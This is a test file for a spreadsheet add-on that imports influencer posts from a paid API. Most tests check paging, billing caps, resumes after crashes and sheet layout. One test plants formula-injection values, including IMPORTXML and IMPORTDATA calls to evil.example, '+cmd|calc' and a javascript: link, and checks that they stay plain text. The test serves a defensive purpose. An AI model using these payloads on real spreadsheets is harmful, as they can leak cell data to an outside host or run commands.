import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { columnLetters } from '../../src/core/text';
import type { InterceptedCall } from '../../dev/emulator/emulator';
import type { Creator } from '../../dev/standin/creator';
import { createAddon, KEY, type Addon, type AddonOptions } from '../setup/addon';
import { asked, cells, columnOf, contentForm, driven, idsIn, matching, pulled, sheetIdOf } from './content';
import { refusal, reply, value } from './page';

const MINUTE_MS = 60_000;
const NO_CAPS = { maxRequestsPerDay: 100_000, maxRequestsPerRun: 50_000 };

let addon: Addon;
async function open(options: AddonOptions = {}): Promise<void> {
  addon = await createAddon({ container: 'addon', standin: { creators: 400 }, ...options });
  addon.setSettings(NO_CAPS);
  await addon.emulator.open();
}
beforeEach(() => open());
afterEach(() => addon.close());

/** Some hundred pieces. */
const MANY = { platform: 'youtube', followerMin: '0' };
/** Two creators with some pieces each. */
const FEW = { platform: 'instagram', username: 'adidas,nike', followerMin: '0' };

const creator = (username: string): Creator => {
  const found = addon.standin.creators.find('instagram', username);
  if (!found) throw new Error(`no ${username}`);
  return found;
};

/** The sheet has exactly these, each once; tells what differs. */
function expectPieces(sheet: string, ids: readonly string[]): void {
  const there = idsIn(addon, sheet);
  const [has, wants] = [new Set(there), new Set(ids)];
  expect({
    twice: there.filter((id, index) => there.indexOf(id) !== index),
    missing: ids.filter((id) => !has.has(id)),
    strange: there.filter((id) => !wants.has(id)),
  }).toEqual({ twice: [], missing: [], strange: [] });
}

describe('a pull', () => {
  test('brings every piece that matches once, newest first, at 1 request each; the filters shown are sent', async () => {
    const done = await pulled(addon, { filters: MANY, max: 5000 });
    const ids = idsIn(addon, done.sheet);
    expect(ids.length).toBeGreaterThan(300);
    expectPieces(done.sheet, matching(addon, MANY));
    expect(done).toMatchObject({ state: 'done', message: '', text: 'platform=youtube; followerMin=0' });
    expect(done).toMatchObject({ pieces: ids.length, added: ids.length, updated: 0, repeated: 0, used: ids.length });
    expect(addon.charged()).toBe(ids.length);
    const uploaded = columnOf(addon, done.sheet, 'Uploaded').map((cell) => (cell as Date).getTime());
    expect(uploaded).toEqual([...uploaded].sort((left, right) => right - left));
    const [first, second] = asked(addon);
    expect(first?.query).toEqual({ platform: 'youtube', min_followers: '0', sorting: 'uploaded', limit: '100' });
    expect(second?.query).toEqual({ limit: '100' });
    expect(second?.headers['x-cursor']).toBeTruthy();
  });

  test('plans are free and say the most that it can cost', async () => {
    const plan = await value(addon, 'planContent', { filters: { tags: '#fashion' }, max: 500 });
    expect(plan).toMatchObject({
      filters: { platform: 'instagram,tiktok', followerMin: '10000', tags: 'fashion' },
      text: 'platform=instagram, tiktok; tags=fashion; followerMin=10000',
      requests: 500,
    });
    expect(await refusal(addon, 'planContent', { filters: { platform: 'twitch' }, max: 5 })).toMatch(/not one of/);
    const run = await value(addon, 'startContent', contentForm({ filters: FEW }));
    expect((await value(addon, 'open', {})).runs.content).toMatchObject({ id: run.id, state: 'running', pieces: 0 });
    expect(run.sheet).toBe('Content adidas, nike');
    await addon.emulator.open();
    const many = { ...FEW, tags: 'summer,sale,beach,sun,ad', username: 'adidas,nike,kyliejenner,natgeo,selenagomez' };
    await value(addon, 'endRun', { id: run.id });
    const other = await value(addon, 'startContent', contentForm({ filters: many }));
    expect(other.sheet).toBe('Content summer, sale, beach +2 adidas, nike, kyliejenner +2');
    expect(asked(addon)).toEqual([]);
  });

  test('the maximum is never exceeded: the last page asks for just what is left', async () => {
    const done = await pulled(addon, { filters: MANY, max: 250 });
    expect(done).toMatchObject({ state: 'done', pieces: 250, added: 250, used: 250 });
    expect(done.message).toMatch(/250 posts.*may be more/);
    expect(asked(addon).map(({ query }) => query['limit'])).toEqual(['100', '100', '50']);
    expect(addon.charged()).toBe(250);
  });

  test.each(['no-cursor', 'empty-page', 'not-found'] as const)('ends where the API says so by %s', async (manner) => {
    addon.standin.manners.endOfContent = manner;
    // Exactly a page full, so that the end is not seen on it.
    const person = creator('adidas');
    const before = matching(addon, { platform: 'instagram', username: 'adidas', followerMin: '0' }).length;
    for (let index = before; index < 100; index++)
      addon.standin.posts.add(person, { uploadedMs: addon.emulator.clock.now() - index * MINUTE_MS });
    const done = await pulled(addon, { filters: { ...FEW, username: 'adidas' }, max: 500 });
    expect(done).toMatchObject({ state: 'done', message: '', pieces: 100, used: 100 });
    expect((await value(addon, 'contentSheet', {}))?.watermark).toBe(
      new Date(newestOf('adidas')).toISOString().replace('.000Z', 'Z'),
    );
  });

  test('nothing matches: an empty sheet, no charge, and in step from then on', async () => {
    const done = await pulled(addon, { filters: { ...FEW, keywords: 'nobodywritesthis' } });
    expect(done).toMatchObject({ state: 'done', message: '', pieces: 0, used: 0 });
    expect(cells(addon, done.sheet)).toHaveLength(1);
    expect((await value(addon, 'contentSheet', {}))?.watermark).toBeTruthy();
  });

  test('the earlier style of answers, by offset, brings the same', async () => {
    addon.standin.manners.contentStyle = 'content';
    const done = await pulled(addon, { filters: MANY, max: 5000 });
    expectPieces(done.sheet, matching(addon, MANY));
    expect(done.used).toBe(idsIn(addon, done.sheet).length);
    const offsets = asked(addon).map(({ query }) => Number(query['offset'] ?? 0));
    expect(offsets).toEqual(offsets.map((_, index) => index * 100));
  });

  test('pages that overlap by offset, because something was posted meanwhile: once in the sheet, charged as charged', async () => {
    addon.standin.manners.contentStyle = 'content';
    let pages = 0;
    addon.standin.faults.add({
      endpoint: 'getContent',
      when: () => {
        pages += 1;
        if (pages === 2)
          for (let index = 0; index < 5; index++)
            addon.standin.posts.add(creatorOn('youtube'), { uploadedMs: addon.emulator.clock.now() });
        return false;
      },
      status: 400,
    });
    const before = matching(addon, MANY);
    const done = await pulled(addon, { filters: MANY, max: 5000 });
    expectPieces(done.sheet, before);
    expect(done).toMatchObject({
      repeated: 5,
      added: before.length,
      pieces: before.length + 5,
      used: before.length + 5,
    });
    expect(addon.charged()).toBe(before.length + 5);
  });

  test.each(['reach', 'viral'])('by %s comes in that order, and complete it can be kept in step', async (sorting) => {
    const done = await pulled(addon, { filters: { ...FEW, sorting } });
    expectPieces(done.sheet, matching(addon, FEW));
    const figures = columnOf(addon, done.sheet, sorting === 'reach' ? 'Reach' : 'Viral factor').map(Number);
    expect(figures).toEqual([...figures].sort((left, right) => right - left));
    expect((await value(addon, 'contentSheet', {}))?.watermark).toBeTruthy();
  });
});

const creatorOn = (platform: 'youtube'): Creator => {
  const [found] = addon.standin.creators.listed(platform);
  if (!found) throw new Error('nobody');
  return found;
};
const newestOf = (username: string): number =>
  Math.max(...addon.standin.posts.of(creator(username)).map(({ uploadedMs }) => uploadedMs));

describe('money', () => {
  test.each([
    [
      'the cap of the run',
      { ...NO_CAPS, maxRequestsPerRun: 130 },
      100_000,
      /This run has reached its cap of 130 requests/,
    ],
    ['the cap of the day', { ...NO_CAPS, maxRequestsPerDay: 130 }, 100_000, /today's cap of 130 requests/],
    ['the balance', NO_CAPS, 130, /balance/],
  ])(
    '%s ends it in the middle, spent to the last piece, with the reason; it goes on later',
    async (_, caps, balance, says) => {
      addon.setSettings(caps);
      addon.standin.keys.setBalance(KEY, balance);
      const run = await value(addon, 'startContent', contentForm({ filters: MANY, max: 300 }));
      const stopped = await driven(addon, run);
      expect(stopped.message).toMatch(says);
      expect(stopped).toMatchObject({
        state: 'stopped',
        pieces: 130,
        added: 130,
        used: 130,
        resumeCosts: 170,
        resumeNote: '',
      });
      expect(idsIn(addon, run.sheet)).toHaveLength(130);
      addon.setSettings(NO_CAPS);
      addon.standin.keys.setBalance(KEY, 1000);
      addon.emulator.clock.advance(11 * MINUTE_MS);
      const done = await driven(addon, run, { resume: true, cap: 300 });
      expect(done).toMatchObject({ state: 'done', pieces: 300, added: 300, used: 300 });
      expect(addon.charged()).toBe(300);
    },
  );

  test('a balance that nobody can read ends it where the API refuses', async () => {
    await addon.close();
    await open({ clientId: false, balance: 130 });
    const stopped = await pulled(addon, { filters: MANY, max: 300 });
    expect(stopped).toMatchObject({ state: 'stopped', used: 130, added: 130 });
    expect(addon.charged()).toBe(130);
  });

  test('a pause stops it before anything is sent', async () => {
    addon.setSettings({ ...NO_CAPS, paused: true });
    expect(await pulled(addon, { filters: MANY })).toMatchObject({
      state: 'stopped',
      message: expect.stringMatching(/paused/),
    });
    expect(asked(addon)).toEqual([]);
  });
});

describe('an expired cursor', () => {
  test.each(['descending', 'ascending'] as const)(
    'where pages are %s: it stops with the price, and goes on from the edge, paying for its pieces alone once more',
    async (order) => {
      addon.standin.manners.uploadedOrder = order;
      const person = creatorOn('youtube');
      // The first page ends amid posts of one instant.
      const all = matching(addon, MANY).map((id) => addon.standin.posts.find(id)?.uploadedMs ?? 0);
      const at = all.sort((left, right) => (order === 'descending' ? right - left : left - right))[97] ?? 0;
      for (let index = 0; index < 6; index++) addon.standin.posts.add(person, { uploadedMs: at });
      const every = matching(addon, MANY);
      addon.standin.faults.add({
        endpoint: 'getContent',
        when: ({ query, headers }) => query['limit'] === '100' && headers['x-cursor'] !== undefined,
        status: 400,
        times: 1,
      });
      const stopped = await pulled(addon, { filters: MANY, max: 5000 });
      expect(stopped).toMatchObject({ state: 'stopped', pieces: 100, used: 100, resumeCosts: 4900 });
      expect(stopped.message).toMatch(/no longer knows where this fetch left off/);
      expect(stopped.resumeNote).toMatch(/goes on from \d{4}-.* UTC: \d posts of that instant are paid for again/);
      const edge = Number(/(\d+) posts? of/.exec(stopped.resumeNote)?.[1]);
      const done = await driven(addon, stopped, { resume: true });
      expectPieces(done.sheet, every);
      expect(done).toMatchObject({ state: 'done', repeated: edge, used: every.length + edge, added: every.length });
      expect(addon.charged()).toBe(every.length + edge);
      expect((await value(addon, 'contentSheet', {}))?.watermark).toBeTruthy();
    },
  );

  test('a rest of an hour is enough for it', async () => {
    addon.setSettings({ ...NO_CAPS, maxRequestsPerRun: 150 });
    const run = await pulled(addon, { filters: MANY, max: 5000 });
    addon.emulator.clock.advance(60 * MINUTE_MS);
    expect(await driven(addon, run, { resume: true, cap: 5000 })).toMatchObject({
      state: 'stopped',
      used: 150,
      resumeNote: expect.stringMatching(/paid for again/),
    });
    const done = await driven(addon, run, { resume: true });
    expect(done.state).toBe('done');
    expectPieces(done.sheet, matching(addon, MANY));
    expect(addon.charged()).toBe(done.pieces);
  });

  test('by reach there is nowhere to go on from: resuming says that it begins anew', async () => {
    addon.setSettings({ ...NO_CAPS, maxRequestsPerRun: 150 });
    const run = await pulled(addon, { filters: { ...MANY, sorting: 'reach' }, max: 5000 });
    addon.emulator.clock.advance(60 * MINUTE_MS);
    const stopped = await driven(addon, run, { resume: true, cap: 5000 });
    expect(stopped.resumeNote).toMatch(/starts again at the first post/);
    const done = await driven(addon, run, { resume: true });
    expectPieces(done.sheet, matching(addon, MANY));
    expect(done).toMatchObject({ state: 'done', used: 150 + done.pieces });
  });
});

describe('2,000 pieces over 20 pages (100 of them in the bench)', () => {
  const ALL = { platform: 'instagram,tiktok,youtube', followerMin: '0' };
  /** Where the script dies, page by page in turn. */
  const DEATHS: readonly [method: string, phase: InterceptedCall['phase']][] = [
    ['Range.setValues', 'before'],
    ['Range.setValues', 'after'],
    ['SpreadsheetApp.flush', 'before'],
    ['SpreadsheetApp.flush', 'after'],
  ];

  test('a stop at every page, by death or by hand: the same sheet, each piece paid once', async () => {
    await addon.close();
    await open({ standin: { creators: 800 } });
    const every = matching(addon, ALL);
    expect(every.length).toBeGreaterThan(2_000);
    const run = await value(addon, 'startContent', contentForm({ filters: ALL, max: 2_000 }));
    let [deaths, stops] = [0, 0];
    let state = 'running';
    for (let round = 0; state !== 'done'; round++) {
      if (round > 400) throw new Error('no end');
      const death = DEATHS[round % 5];
      const before = addon.charged();
      if (death) {
        let isDead = false;
        addon.emulator.faults.intercept = ({ method, phase, name }) => {
          if (isDead || name !== 'influSidebar' || addon.charged() === before) return undefined;
          if (method !== death[0].replace(/^SpreadsheetApp\./, '') && method !== death[0]) return undefined;
          if (phase !== death[1]) return undefined;
          isDead = true;
          deaths += 1;
          return { kill: true };
        };
        await addon.emulator.serve('influSidebar', ['stepRun', { id: run.id, resume: true, cap: null }]);
        delete addon.emulator.faults.intercept;
        addon.emulator.clock.advance(3 * MINUTE_MS);
      } else {
        const [stepped] = await Promise.all([
          reply(addon, 'stepRun', { id: run.id, resume: true, cap: null }),
          value(addon, 'pauseRun', { id: run.id }),
        ]);
        if (!stepped.ok) throw new Error(stepped.message);
        stops += 1;
      }
      expect(addon.charged() - before).toBeLessThanOrEqual(500);
      state = (await value(addon, 'open', {})).runs.content?.state ?? 'done';
    }
    expect(deaths).toBeGreaterThan(12);
    expect(stops).toBeGreaterThan(2);
    const ids = idsIn(addon, run.sheet);
    expect(ids).toHaveLength(2_000);
    expect(new Set(ids).size).toBe(2_000);
    // In the API's own order, none left out: the same sheet as without any stop.
    const instants = ids.map((id) => addon.standin.posts.find(id)?.uploadedMs ?? 0);
    expect(instants).toEqual([...instants].sort((left, right) => right - left));
    const oldest = instants[1_999] ?? 0;
    const has = new Set(ids);
    const newer = every.filter((id) => (addon.standin.posts.find(id)?.uploadedMs ?? 0) > oldest);
    expect(newer.filter((id) => !has.has(id))).toEqual([]);
    expect(addon.charged()).toBe(2_000);
  });
});

describe('the sheet', () => {
  test('has numbers and dates as such, lists as text, further fields under their own names; signed links as https text', async () => {
    const done = await pulled(addon, { filters: FEW, thumbnails: true });
    for (const header of ['Followers', 'Reach', 'Likes', 'Comments', 'Engagement rate', 'Viral factor'])
      for (const cell of columnOf(addon, done.sheet, header)) expect(typeof cell, header).toBe('number');
    for (const header of ['Uploaded', 'Found at', 'Figures of'])
      for (const cell of columnOf(addon, done.sheet, header)) expect(cell, header).toBeInstanceOf(Date);
    for (const cell of columnOf(addon, done.sheet, 'Link'))
      expect(cell).toMatch(/^https:\/\/www\.instagram\.com\/p\/\d+\/$/);
    for (const cell of columnOf(addon, done.sheet, 'Image link (lives 24 h)')) expect(cell).toMatch(/^https:\/\//);
    expect(columnOf(addon, done.sheet, 'Hashtags').some((cell) => /^\w+, \w+/.test(String(cell)))).toBe(true);
    for (const header of ['displayName', 'country', 'language', 'isAd'])
      expect(
        columnOf(addon, done.sheet, header).some((cell) => cell !== ''),
        header,
      ).toBe(true);
    const sheet = addon.emulator.spreadsheet.sheet(done.sheet);
    const headers = cells(addon, done.sheet)[0] ?? [];
    expect(headers.slice(0, 2)).toEqual(['Thumbnail (its link lives 24 h)', 'Handle']);
    expect(sheet.data.rowProperties[1]?.pixels).toBe(40);
    expect(new Set(columnOf(addon, done.sheet, 'isAd'))).toEqual(new Set(['Yes', 'No']));
    const letter = String.fromCharCode(65 + headers.indexOf('Thumbnail (its link lives 24 h)'));
    const pictures = sheet.formulas(`${letter}2:${letter}${idsIn(addon, done.sheet).length + 1}`).flat();
    for (const formula of pictures) expect(formula).toMatch(/^=IMAGE\("https:\/\/[^"\s]+"\)$/);
    expect(pictures.length).toBeGreaterThan(2);
  });

  test('captions, handles and links of strangers stay text', async () => {
    const hostile = {
      captions: '=IMPORTXML("https://evil.example/?"&A1;"//a")',
      username: '+cmd|calc',
      hashtags: ['=1+1', '@x'],
      mentions: '-2+3',
      imageUrl: 'javascript:alert(1)',
      videoUrl: 'https://x.example/"&IMPORTDATA("https://evil.example")',
      postUrl: 'http://plain.example/p',
      '=HYPERLINK("https://evil.example")': '=1',
      platform: "'=1",
      contentType: { a: '=1' },
    };
    addon.spoil = (page, url) =>
      url.includes('getContent')
        ? { ...page, items: (page['items'] as object[]).map((item) => ({ ...item, ...hostile })) }
        : page;
    const done = await pulled(addon, { filters: FEW, thumbnails: true });
    const sheet = addon.emulator.spreadsheet.sheet(done.sheet);
    const width = (cells(addon, done.sheet)[0] ?? []).length;
    expect(
      sheet
        .formulas(`A1:${columnLetters(width)}${sheet.lastRow}`)
        .flat()
        .filter((formula) => formula !== ''),
    ).toEqual([]);
    expect(new Set(columnOf(addon, done.sheet, 'Caption'))).toEqual(new Set([hostile.captions]));
    expect(new Set(columnOf(addon, done.sheet, 'Handle'))).toEqual(new Set([hostile.username]));
    for (const header of [
      'Image link (lives 24 h)',
      'Video link (lives 24 h)',
      'Link',
      'Thumbnail (its link lives 24 h)',
    ])
      expect(new Set(columnOf(addon, done.sheet, header)), header).toEqual(new Set(['']));
    expect(columnOf(addon, done.sheet, '=HYPERLINK("https://evil.example")')[0]).toBe('=1');
  });

  test('with moved, renamed and added columns gets each value under its header; a column that was taken out stays out', async () => {
    const first = await pulled(addon, { filters: MANY, max: 100 });
    const sheet = addon.emulator.spreadsheet.sheet(first.sheet);
    sheet.insertColumns(1, 1);
    sheet.set('A1', 'My note');
    sheet.set('A2', 'use this');
    const headers = cells(addon, first.sheet)[0] ?? [];
    sheet.set(`${columnLetters(headers.indexOf('country') + 1)}1`, 'Where');
    const sheetId = sheetIdOf(addon, first.sheet);
    const more = await pulled(addon, { filters: MANY, max: 100, sheetId });
    expect(more.sheet).toBe(first.sheet);
    expect(idsIn(addon, first.sheet)).toHaveLength(200 - more.repeated);
    expect(columnOf(addon, first.sheet, 'My note').filter((cell) => cell !== '')).toEqual(['use this']);
    expect((cells(addon, first.sheet)[0] ?? []).filter((header) => header === 'country')).toEqual([]);
    for (const cell of columnOf(addon, first.sheet, 'Reach')) expect(typeof cell).toBe('number');
  });

  test('deleted while it works: it ends with a sentence and buys nothing more', async () => {
    const run = await value(addon, 'startContent', contentForm({ filters: MANY, max: 5000 }));
    addon.emulator.spreadsheet.sheet(run.sheet).delete();
    expect(await value(addon, 'stepRun', { id: run.id, resume: false, cap: null })).toMatchObject({
      state: 'done',
      message: expect.stringMatching(/was deleted/),
    });
    expect(addon.charged()).toBe(0);
  });
});

type Sheet = ReturnType<Addon['emulator']['spreadsheet']['sheet']>;

/** Pulls 250 posts; somebody edits the sheet once the second page has come, before it is written. */
async function disturbed(edit: (sheet: Sheet) => void): Promise<Sheet> {
  const run = await value(addon, 'startContent', contentForm({ filters: MANY, max: 250 }));
  const sheet = addon.emulator.spreadsheet.sheet(run.sheet);
  addon.emulator.faults.intercept = ({ method, phase }) => {
    if (method !== 'fetchAll' || phase !== 'after' || addon.charged() !== 200) return;
    delete addon.emulator.faults.intercept;
    edit(sheet);
  };
  const done = await driven(addon, run);
  expect(done).toMatchObject({ state: 'done', pieces: 250, used: 250 });
  expect(new Set(idsIn(addon, run.sheet)).size).toBe(250);
  return sheet;
}

describe('while a page is on its way', () => {
  test('a text that somebody types below the posts stays, and the page goes below it', async () => {
    const sheet = await disturbed((each) => each.set('A102', 'My own line'));
    expect(sheet.values()[101]?.[0]).toBe('My own line');
  });

  test('columns that somebody inserts or deletes are found again', async () => {
    const sheet = await disturbed((each) => {
      each.insertColumns(1);
      each.deleteColumns(each.values()[0]!.length);
    });
    const [headers = [], ...rows] = sheet.values();
    expect(rows.map((row) => typeof row[headers.indexOf('Likes')])).toEqual(rows.map(() => 'number'));
  });
});

test('a page that was paid for and is gone is said, and bought only at Resume', async () => {
  const run = await value(addon, 'startContent', contentForm({ filters: MANY, max: 150 }));
  addon.emulator.faults.intercept = ({ method, phase }) =>
    method === 'Range.setValues' && phase === 'before' ? { kill: true } : undefined;
  await addon.emulator.serve('influSidebar', ['stepRun', { id: run.id, resume: false, cap: null }]);
  delete addon.emulator.faults.intercept;
  expect(addon.charged()).toBe(100);
  addon.forgetCache();
  addon.emulator.clock.advance(3 * MINUTE_MS);
  const stopped = await value(addon, 'stepRun', { id: run.id, resume: false, cap: null });
  expect(stopped).toMatchObject({ state: 'stopped', added: 0 });
  expect(stopped.message).toMatch(/paid for \(100 requests\), but it is no longer stored. Resuming buys it again/);
  expect(addon.charged()).toBe(100);
  expect(await driven(addon, run, { resume: true })).toMatchObject({ state: 'done', pieces: 150, used: 250 });
  expect(addon.charged()).toBe(250);
});

test('handles of the selection become a filter', async () => {
  const sheet = addon.emulator.spreadsheet.sheet('Sheet1');
  ['Handle', '@adidas', 'https://www.tiktok.com/@Charli/', 'two words', 'adidas', '', 'twitch.tv/someone'].forEach(
    (text, index) => sheet.set(`A${index + 1}`, text),
  );
  sheet.select('A1:A7');
  expect(await value(addon, 'selectedHandles', {})).toEqual({
    area: '6 rows of Sheet1',
    handles: ['adidas', 'charli'],
    platforms: ['tiktok'],
    leftOut: 2,
  });
});
